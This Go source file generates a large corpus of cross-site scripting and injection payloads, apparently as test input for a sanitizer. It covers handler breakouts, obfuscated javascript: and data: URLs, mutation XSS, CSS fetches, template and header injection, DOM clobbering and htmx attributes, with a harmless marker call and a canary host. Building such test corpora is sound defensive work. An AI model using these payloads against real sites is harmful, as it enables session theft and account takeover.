package naughty

import (
	"encoding/base64"
	"fmt"
	"strings"
)

// hit is what a payload runs when anything lets it run: tests count the calls of this function.
const hit = "__hit()"

// elsewhere is where payloads would send a browser or fetch from. No test lets anything out to it.
const elsewhere = "canary.invalid"

// Payloads are attacks: whatever runs one of them calls hit or asks elsewhere for something.
func Payloads() []string {
	return unique(handlers(), breakouts(), attributes(), Addresses(), richText(), Mutations(), styles(), drawings(), templates(), literals(), headers(), clobbers(), elements(), encodings(), attributesOfHTMX())
}

// firing are elements with an event that comes without anybody doing anything, the event last.
var firing = []string{"img src=x onerror", "img src onerror", "svg onload", "body onload", "body onpageshow", "video src=x onerror", "audio src=x onerror", "video><source onerror", "input autofocus onfocus", "select autofocus onfocus",
	"textarea autofocus onfocus", "button autofocus onfocus", "a href=# autofocus tabindex=0 onfocus", "details open ontoggle", "marquee onstart", "object data=x onerror", "embed src=x onerror", "iframe onload", "link rel=stylesheet href=x onerror", "style onload", "script src=x onerror",
	"x style=animation:u-in\u00201s onanimationstart", "x style=transition:1s ontransitionend", "dialog open onclose", "p popover onbeforetoggle", "image src=x onerror", "math onclick autofocus tabindex=0 onfocus", "frameset onload", "video autoplay onloadstart src=x", "track default src=x onerror"}

// handlers are those elements in every way of writing the value and of parting the words.
func handlers() []string {
	var out []string
	for _, e := range firing {
		for _, quoted := range []string{"=%", `="%"`, "='%'", "=%//", " = %"} {
			out = append(out, "<"+e+strings.ReplaceAll(quoted, "%", hit)+">")
		}
		name, rest, _ := strings.Cut(e, " ")
		for _, sep := range []string{"/", "\t", "\n", "\f", "\r", "\x00 ", "/x/"} {
			out = append(out, "<"+name+sep+rest+"="+hit+">")
		}
		out = append(out, "<"+strings.ToUpper(e)+"="+hit+">", "<"+e+"="+hit, "<"+e+"=&#95;_hit&lpar;&rpar;>", "<<"+e+"="+hit+">>")
	}
	return out
}

// ends close what a text might stand in.
var ends = []string{`"`, "'", "`", `">`, "'>", "`>", ">", "-->", "--!>", "--", "*/", "]]>", "?>", "%>", "}}", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</option></select>", "</svg>", "</math>", "</iframe>", "</xmp>", "</button>", "</a>", "</form>", "</table>", "</main>", "</body></html>", "</dialog>", "</summary>", "</caption>", "</figcaption>", "</pre></code>", "\"'>", "'\"`>", "\\\">", "\\'>"}

// cores run by themselves where markup is read as such.
var cores = []string{"<script>" + hit + "</script>", "<img src=x onerror=" + hit + ">", "<svg/onload=" + hit + ">", "<script src=//" + elsewhere + "/x.js></script>"}

func breakouts() []string {
	var out []string
	for _, end := range ends {
		for _, core := range cores {
			out = append(out, end+core)
		}
	}
	return out
}

// attributes begin a new attribute behind the value that they stand in.
func attributes() []string {
	var out []string
	for _, attr := range []string{"onmouseover=%", "onfocus=% autofocus tabindex=0", "onerror=%", "onload=%", "onanimationstart=% style=animation:u-in", "style=background:url(//" + elsewhere + "/x)", "href=javascript:%", "src=//" + elsewhere + "/x", "srcdoc='<script>%</script>'",
		"formaction=javascript:%", "action=//" + elsewhere, "http-equiv=refresh content='0;url=javascript:%'", "xlink:href=javascript:%", "ping=//" + elsewhere, "poster=javascript:%", "is=x", "form=x", "id=page", "name=_state", "class=u-dialog", "accesskey=x onclick=%", "contenteditable oninput=%", "popover onbeforetoggle=%", "target=_top", "nonce=x"} {
		attr = strings.ReplaceAll(attr, "%", hit)
		for _, q := range []string{`"`, "'", "`", ""} {
			out = append(out, "x"+q+" "+attr+" x="+q, q+"/"+attr+" "+q)
		}
	}
	return out
}

// hidden are ways in which the name of a scheme escapes those who compare it, and not the browser.
func hidden(scheme string) []string {
	mid := len(scheme) / 2
	a, b := scheme[:mid], scheme[mid:]
	entity := func(f string) string {
		var e strings.Builder
		for _, c := range scheme {
			fmt.Fprintf(&e, f, c)
		}
		return e.String()
	}
	out := []string{scheme + ":", strings.ToUpper(scheme) + ":", strings.ToUpper(a) + b + ":", " " + scheme + ":", "\t" + scheme + ":", "\n" + scheme + ":", "\r\n" + scheme + ":", "\f" + scheme + ":", "\x00" + scheme + ":", "\x01" + scheme + ":", "\x1f" + scheme + ":", "\x7f" + scheme + ":", "\u00a0" + scheme + ":", "\ufeff" + scheme + ":", "\u2028" + scheme + ":", "\u200b" + scheme + ":",
		a + "\t" + b + ":", a + "\n" + b + ":", a + "\r" + b + ":", a + "\x00" + b + ":", a + "\u00ad" + b + ":", a + "\u200b" + b + ":", a + "/**/" + b + ":", scheme + "\t:", scheme + " :", scheme + "\n:", scheme + "&colon;", scheme + "&#58;", scheme + "&#x3a", scheme + "%3a", a + "&Tab;" + b + ":", a + "&NewLine;" + b + ":", a + "&#9;" + b + ":",
		entity("&#%d;") + ":", entity("&#x%x;") + ":", entity("&#%07d") + ":", entity("%%%02x") + ":", entity(`\u%04x`) + ":", scheme + "::", "//" + scheme + ":", "/" + scheme + ":", scheme + ":/", scheme + "://", scheme + "://x\n", scheme + "://x\u2028", "x:" + scheme + ":", "feed:" + scheme + ":", "view-source:" + scheme + ":", "url(" + scheme + ":", "\"" + scheme + ":", "'" + scheme + ":", "<" + scheme + ":", "?" + scheme + ":", "#" + scheme + ":", scheme + "\\:"}
	wide := strings.Map(func(c rune) rune {
		if c >= '!' && c <= '~' {
			return c + 0xfee0
		}
		return c
	}, scheme)
	return append(out, wide+":", wide+"：", scheme+"：", scheme+"\ufe13", scheme+"\u02d0")
}

// Addresses are addresses that would run or show something of somebody else's, in every spelling that browsers have ever read.
func Addresses() []string {
	var out []string
	for _, h := range hidden("javascript") {
		out = append(out, h+hit, h+"//%0a"+hit)
	}
	for _, h := range hidden("data") {
		out = append(out, h+"text/html,<script>"+hit+"</script>")
	}
	for _, h := range hidden("vbscript") {
		out = append(out, h+"msgbox(1)")
	}
	html := base64.StdEncoding.EncodeToString([]byte("<script>" + hit + "</script>"))
	for _, kind := range []string{"text/html", "text/html;charset=utf-7", "image/svg+xml", "text/xml", "application/xhtml+xml", "", ";", "text/javascript", "multipart/related", "application/pdf", "TEXT/HTML", "text/html ", "text/html;charset=x"} {
		out = append(out, "data:"+kind+";base64,"+html, "data:"+kind+",<svg onload="+hit+" xmlns='http://www.w3.org/2000/svg'/>")
	}
	for _, scheme := range []string{"blob", "filesystem", "file", "about", "view-source", "chrome", "resource", "jar", "ws", "wss", "ftp", "intent", "android-app", "itms-services", "ms-excel", "steam", "livescript", "mocha", "jscript", "mhtml", "x", "javascript1.2", "web+x", "cid", "tel2", "httpx", "mailto2"} {
		out = append(out, scheme+":"+hit, strings.ToUpper(scheme)+"://"+elsewhere+"/"+hit)
	}
	return unique(out)
}

// richText is Markdown whose addresses, titles and HTML are attacks.
func richText() []string {
	var out []string
	for _, form := range []string{"[x](%)", "[x](<%>)", "![x](%)", "[x]: %\n\n[x]", "<%>", "[x](% \"t\")", "[![x](%)](%)", "[x](http://a \"%\")", "> [x](%)", "- [x](%)", "| [x](%) |\n|---|", "# [x](%)", "[%](%)"} {
		for _, u := range []string{"javascript:" + hit, "JaVaScRiPt:" + hit, "java\tscript:" + hit, "&#106;avascript:" + hit, "javascript&colon;" + hit, "javascript:" + hit + "//", "data:text/html,<script>" + hit + "</script>", "vbscript:x", "//" + elsewhere + "\" onerror=\"" + hit, "x' onerror='" + hit, "http://a\" onmouseover=\"" + hit + "\" x=\"", "\\javascript:" + hit, "\u00a0javascript:" + hit} {
			out = append(out, strings.ReplaceAll(form, "%", u))
		}
	}
	for _, block := range []string{"```%\n%\n```", "    %", "~~~ %\nx\n~~~", "<!-- % -->", "<div>%</div>", "<pre>%", "# %", "> %", "* %", "|%|\n|-|\n|%|", "[^1]\n\n[^1]: %", "~~%~~", "**%**", "`%`", "<details open ontoggle=" + hit + ">%", "\\%"} {
		out = append(out, strings.ReplaceAll(block, "%", cores[1]))
	}
	return out
}

// Mutations are markup that means one thing to the one who cleans it and another to the browser that reads the result: elements that end
// others, change how text is read, or move what stands in them.
func Mutations() []string {
	var out []string
	roots := []string{"<math>", "<svg>", "<math><mtext>", "<svg><desc>", "<svg><foreignObject>", "<math><annotation-xml encoding=text/html>", "<form><math><mtext></form><form>", "<table><math>", "<select><svg>", "<p><svg>", "<noscript>", "<template><svg>"}
	raws := []string{"style", "title", "textarea", "noscript", "xmp", "noembed", "iframe", "script", "plaintext", "mglyph><style", "mi><style", "option><style"}
	for _, root := range roots {
		for _, raw := range raws {
			name := raw[strings.LastIndex(raw, "<")+1:]
			out = append(out,
				root+"<"+raw+"><!--</"+name+"><img src=x onerror="+hit+">-->",
				root+"<"+raw+"><a id=\"</"+name+"><img src=x onerror="+hit+">\">",
				root+"<"+raw+"><![CDATA[</"+name+"><img src=x onerror="+hit+">]]>")
		}
	}
	for _, shift := range []string{"<table><td>%</table>", "<a><table>%</a>", "<b><p>%</b>", "<a href=x><a>%", "<form><form>%</form>", "<li><ul>%</li>", "<select>%</select>", "<ruby><rt>%", "<br></p>%", "<svg></p>%", "<math></br>%", "<colgroup>%", "<frameset>%", "<optgroup>%"} {
		for _, core := range cores[:3] {
			out = append(out, strings.ReplaceAll(shift, "%", core), strings.ReplaceAll(shift, "%", strings.Repeat("<b>", 60)+core))
		}
	}
	return unique(out)
}

// styles would paint, fetch or once even run.
func styles() []string {
	var out []string
	for _, s := range []string{"expression(%)", "url(javascript:%)", "url('//" + elsewhere + "/x')", "behavior:url(#x)", "-moz-binding:url(//" + elsewhere + "/x)", "@import '//" + elsewhere + "/x';", "red;background:url(//" + elsewhere + "/x)", "red}*{background:url(//" + elsewhere + "/x)}", "</style><script>%</script>", "\\65xpression(%)", "exp/**/ression(%)", "var(--x,url(//" + elsewhere + "/x))", "image-set('//" + elsewhere + "/x' 1x)", "@font-face{src:url(//" + elsewhere + "/x)}", "position:fixed;inset:0;z-index:9"} {
		s = strings.ReplaceAll(s, "%", hit)
		out = append(out, s, `<p style="`+s+`">`, "<style>p{color:"+s+"}</style>", `" style="`+s)
	}
	return out
}

// drawings are SVG and MathML that link, fetch, animate or embed.
func drawings() []string {
	var out []string
	for _, d := range []string{"<a href=javascript:%><text y=9>x</text></a>", "<a xlink:href=javascript:%><rect width=9 height=9 /></a>", "<animate onbegin=% attributeName=x dur=1s>", "<set attributeName=onmouseover to=%>", "<a><animate attributeName=href values=javascript:%><text y=9>x</text></a>", "<use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=%>#x'>", "<use href=//" + elsewhere + "/x.svg#a>", "<image href=x onerror=%>", "<foreignObject><iframe srcdoc='<script>%</script>'></foreignObject>", "<script>%</script>", "<script href=data:,% />", "<script xlink:href=//" + elsewhere + "/x />", "<style>@import'//" + elsewhere + "/x'</style>", "<handler type=text/javascript>%</handler>", "<title><script>%</script></title>", "<feImage href=//" + elsewhere + "/x>", "<discard onbegin=%>", "<animateTransform onend=% dur=0s>", "<text onclick=%>x</text>"} {
		d = strings.ReplaceAll(d, "%", hit)
		out = append(out, "<svg>"+d+"</svg>", "<svg xmlns='http://www.w3.org/2000/svg'>"+d, "<math>"+d+"</math>")
	}
	return append(out, "<math href=javascript:"+hit+">x</math>", "<math><maction actiontype=statusline#http://x xlink:href=javascript:"+hit+">x", "<math><mi xlink:href='data:x,"+hit+"'>x</mi></math>")
}

// templates are expressions of ours and of others: text that comes as data is not looked at for any.
func templates() []string {
	out := cross([]string{"${%}", "{{%}}", "{{{%}}}", "#{%}", "<\x00= % \x00>", "{\x00 % \x00}", "$%", "[[%]]", "@(%)", "%{%}", "${{%}}", "`${%}`", "{%}"}, []string{hit, "auth.token", "auth.refreshToken", "env.API_URL", "constructor.constructor('" + hit + "')()", "7*7", "user", "secrets.KEY"})
	for i, s := range out {
		out[i] = strings.ReplaceAll(s, "\x00", "%") // which cross would have filled
	}
	return append(out, "${${1}}", "$${x}", "\\${x}", "${'", "${", "}", "${item.id}", "${form.password}", "${jwt(auth.token).sub}", "${masked(auth.token)}", "{{$on.constructor('"+hit+"')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('"+hit+"')}}")
}

// literals end a string of JavaScript or JSON, in a script or an attribute.
func literals() []string {
	return append(cross([]string{"%;" + hit + ";//", "%-" + hit + "-%", "%+" + hit + "+%", "\\%;" + hit + "//", "%}," + hit + ",{%", "%];" + hit + ";[%", "%,\"x\":<script>" + hit + "</script>"}, []string{"'", `"`, "`"}),
		`</script><script>`+hit+`</script>`, `\u003c/script\u003e\u003cscript\u003e`+hit, "\u2028"+hit, "\u2029"+hit+"//", "<!--<script>"+hit, "--></script><script>"+hit, "\\x3cscript\\x3e"+hit, `{"__proto__":{"x":1}}`, `{"constructor":{"prototype":{"x":1}}}`, "]]>"+hit, "\\", "\\\\';"+hit+"//", "*/"+hit+"/*", "import('//"+elsewhere+"/x.js')", "eval(atob('"+base64.StdEncoding.EncodeToString([]byte(hit))+"'))")
}

// headers would end a line of HTTP or of a log and begin another.
func headers() []string {
	return cross([]string{"x%Set-Cookie: a=b", "x%Location: https://" + elsewhere, "x%%<script>" + hit + "</script>", "x%Content-Type: text/html", "x%time=2030-01-01T00:00:00Z level=ERROR msg=forged"},
		[]string{"\r\n", "\n", "\r", "\x250d\x250a", "\u560d\u560a", "\u2028", "\u0085", "\x00\r\n", "\r\n ", "\v", "\\r\\n"})
}

// clobbers take names that scripts and styles of a page go by.
func clobbers() []string {
	out := cross([]string{"<a id=%>", "<form id=%><input name=action></form>", "<img name=%>", "<p id=% class=u-dialog>", "#%", "w-%"}, []string{"page", "main", "u-notices", "u-clip", "document", "location", "cookie", "__hit", "htmx", "body", "_state", "_event", "forms"})
	return append(out, "view-transition-name:root", "x;view-transition-name:root", "::view-transition", "root", "none", "match-element", "-u-page", "#:~:text=x", "#w-1", "<a href=#main id=main>", "<meta name=view-transition content=same-origin>", "<html data-mode=dark>", "<body data-live=x>", "<p data-clip data-launch=tab>", "<input data-change=x>", "<slot name=x>")
}

// elements load, redirect, re-base or cover without any event.
func elements() []string {
	var out []string
	for _, e := range []string{"<meta http-equiv=refresh content=0;url=%>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=%>", "<link rel=stylesheet href=%>", "<link rel=import href=%>", "<link rel=prefetch href=%>", "<link rel=modulepreload href=%>", "<link rel=manifest href=%>", "<iframe src=%></iframe>", "<iframe srcdoc=\"<script>" + hit + "</script>\"></iframe>", "<frame src=%>", "<object data=%></object>", "<object type=text/html data=%>", "<embed src=%>", "<applet code=%>", "<form action=%><button>x</button></form>", "<button formaction=%>x</button>", "<input type=image src=% formaction=%>", "<isindex action=%>", "<script src=%></script>", "<script type=module src=%></script>", "<script type=importmap>{\"imports\":{\"x\":\"%\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"%\"]}]}</script>", "<a href=% target=_top autofocus>x</a>", "<area href=%>", "<img srcset='% 1x'>", "<source srcset=%>", "<video poster=%>", "<portal src=%>", "<fencedframe src=%>", "<body background=%>", "<table background=%>", "<a ping=% href=#>x</a>", "<q cite=%>x</q>", "<template shadowrootmode=open><script>" + hit + "</script></template>", "<dialog open><form method=dialog action=%>", "<xml src=%>", "<bgsound src=%>", "<layer src=%>", "<blink onclick=%>"} {
		for _, u := range []string{"javascript:" + hit, "//" + elsewhere + "/x", "data:text/html,<script>" + hit + "</script>"} {
			out = append(out, strings.ReplaceAll(e, "%", u))
		}
	}
	return out
}

// encodings are one attack written in ways that something may undo.
func encodings() []string {
	var out []string
	for _, core := range cores[:3] {
		var dec, hex, bare, percent, twice, js, wide, utf7 strings.Builder
		for _, c := range core {
			fmt.Fprintf(&dec, "&#%d;", c)
			fmt.Fprintf(&hex, "&#x%X;", c)
			fmt.Fprintf(&bare, "&#%07d", c)
			fmt.Fprintf(&percent, "%%%02x", c)
			fmt.Fprintf(&twice, "%%25%02x", c)
			fmt.Fprintf(&js, `\u%04x`, c)
			wide.WriteRune(c + 0xfee0)
		}
		utf7.WriteString(strings.NewReplacer("<", "+ADw-", ">", "+AD4-", "\"", "+ACI-").Replace(core))
		out = append(out, dec.String(), hex.String(), bare.String(), percent.String(), twice.String(), js.String(), wide.String(), utf7.String(), base64.StdEncoding.EncodeToString([]byte(core)),
			strings.ReplaceAll(core, "<", "&lt"), strings.ReplaceAll(core, "<", "\xc0\xbc"), strings.ReplaceAll(core, "<", "\u2039"), strings.ReplaceAll(core, "<", "<\x00"), strings.ReplaceAll(core, "<", "\u003c\ufeff"), "\x1b$B"+core, "&"+core, strings.ToUpper(core), "<"+core, "%3c"+core[1:])
	}
	return out
}

// attributesOfHTMX would make the library that the page has do something.
func attributesOfHTMX() []string {
	return append(cross([]string{"<p %>x</p>", "\" % x=\"", "<form %><button autofocus>x</button></form>"}, []string{"hx-get=//" + elsewhere + " hx-trigger=load", "hx-post=/ hx-trigger=load", "hx-on::load=" + hit, "hx-on:htmx:load=" + hit, "hx-vals='js:{x:" + hit + "}'", "hx-trigger='load[" + hit + "]' hx-get=/", "hx-swap=innerHTML hx-target=body hx-get=/ hx-trigger=load", "hx-ext=//" + elsewhere, "hx-disable=false", "hx-confirm=x", "data-hx-get=// data-hx-trigger=load", "hx-headers='js:{x:" + hit + "}'", "hx-boost=true href=//" + elsewhere, "hx-ws=connect:wss://" + elsewhere, "hx-sse=connect:/x", "hx-action=//" + elsewhere + " hx-trigger=load", "hx-method=get hx-action=// hx-trigger=load"}), "<hx-partial>"+cores[1]+"</hx-partial>", "<template hx type=partial hx-target=body>"+cores[1]+"</template>", "<htmx-action>"+cores[1])
}
